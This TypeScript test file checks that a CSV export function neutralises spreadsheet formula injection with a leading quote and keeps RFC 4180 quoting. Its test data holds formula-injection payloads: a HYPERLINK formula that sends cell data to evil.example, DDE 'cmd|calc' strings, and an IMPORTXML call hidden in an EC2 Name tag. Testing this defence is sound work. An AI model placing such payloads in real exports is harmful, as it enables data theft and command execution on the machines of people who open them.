/**
 * CSV safe for spreadsheets (issue 12, finding 4): text that a spreadsheet would run as a formula is
 * neutralised the OWASP way, and a real CSV reader (csv-parse) reads every cell back as written.
 */
import { parse } from 'csv-parse/sync';
import { csvLine, ITEM_COLUMNS, itemRecord } from '../../src/exports/formats';
import type { ProtectedItemDto, SessionDto } from '../../src/upstream/dto';

const read = (text: string): string[][] => parse(text, { record_delimiter: '\r\n', relax_column_count: true }) as string[][];

describe('csvLine', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ["+cmd|' /C calc'!A0"],
    ['-2+3+cmd|calc'],
    ['@SUM(1+1)*cmd|calc'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('neutralises %j: prefixed with a quote, and read back as text', (name) => {
    const line = csvLine(['id-1', name, 'us-east-1']);
    expect(line.split(',')[1]?.startsWith('"\'')).toBe(true);
    expect(read(line)).toEqual([['id-1', `'${name}`, 'us-east-1']]);
  });

  it('leaves ordinary text alone and keeps RFC 4180 quoting', () => {
    const line = csvLine(['web-01', 'a, "quoted" name', 'line\nbreak', 'mid=dle']);
    expect(line).toBe('web-01,"a, ""quoted"" name","line\nbreak",mid=dle\r\n');
    expect(read(line)).toEqual([['web-01', 'a, "quoted" name', 'line\nbreak', 'mid=dle']]);
  });

  it('writes numbers as numbers, negative ones included (only text can carry a formula)', () => {
    expect(csvLine([-1500, 42, '-1500'])).toBe(`-1500,42,"'-1500"\r\n`);
  });

  it('neutralises a hostile EC2 Name tag in a protected-items row', () => {
    const session = { id: 's-1', type: 'Policy', status: 'Failed', executionStartTime: '2026-10-01T00:00:00' } as unknown as SessionDto;
    const item = {
      id: 'i-1',
      name: '=IMPORTXML("http://evil.example", "//a")',
      status: 'Failed',
      region: 'eu-west-1',
    } as unknown as ProtectedItemDto;
    const record = itemRecord(session, item);
    const [row] = read(csvLine(ITEM_COLUMNS.map((column) => record[column])));
    expect(row?.[ITEM_COLUMNS.indexOf('itemName')]).toBe(`'=IMPORTXML("http://evil.example", "//a")`);
  });
});
